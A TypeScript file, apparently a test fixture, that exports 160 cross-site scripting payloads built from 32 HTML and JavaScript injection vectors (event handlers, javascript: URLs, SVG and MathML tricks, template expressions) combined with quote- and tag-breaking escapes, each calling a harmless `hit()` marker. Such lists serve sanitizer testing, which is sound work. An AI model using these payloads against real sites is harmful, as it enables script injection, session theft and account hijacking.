// Ways to get a browser to run what somebody wrote, by the places in HTML that they come from; each calls `hit()`.

/** What runs by itself, or when it is drawn, opened, focused or fails to load. */
const ACTS = [
  '<script>hit()</script>',
  '<script src="data:text/javascript,hit()"></script>',
  '<img src=x onerror=hit()>',
  '<img srcset="x 1x" onerror="hit()">',
  '<svg onload=hit()>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<svg><script>hit()</script></svg>',
  '<svg><a xlink:href="javascript:hit()"><text x=20 y=20>x</text></a></svg>',
  '<math><mtext><img src=x onerror=hit()></mtext></math>',
  '<details open ontoggle=hit()><summary>x</summary></details>',
  '<video src=x onerror=hit()></video>',
  '<video><source onerror=hit()></video>',
  '<audio src=x onerror=hit()></audio>',
  '<body onload=hit()>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<a href="javascript:hit()">x</a>',
  '<a href="java\tscript:hit()">x</a>',
  '<form action="javascript:hit()"><button>x</button></form>',
  '<input autofocus onfocus=hit()>',
  '<select autofocus onfocus=hit()></select>',
  '<marquee onstart=hit()>x</marquee>',
  '<style>@import "data:text/css,*{}";</style><p style="background:url(javascript:hit())">x</p>',
  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
  '<base href="javascript:hit()//">',
  '<template><img src=x onerror=hit()></template>',
  '<p contenteditable oninput=hit() onpointerenter=hit()>x</p>',
  'javascript:hit()',
  'data:text/html,<script>parent.hit()</script>',
  '{{constructor.constructor("hit()")()}}${hit()}#{hit()}',
] as const;

/** Ways out of wherever it was put. */
const ESCAPES: readonly ((act: string) => string)[] = [
  (act) => act,
  (act) => `">${act}`,
  (act) => `'>${act}`,
  (act) => `</title></textarea></style>${act}`,
  (act) => `--><![CDATA[]]>${act}<!--`,
];

/** A hundred and sixty of them. */
export const PAYLOADS: readonly string[] = ESCAPES.flatMap((escape) => ACTS.map(escape));
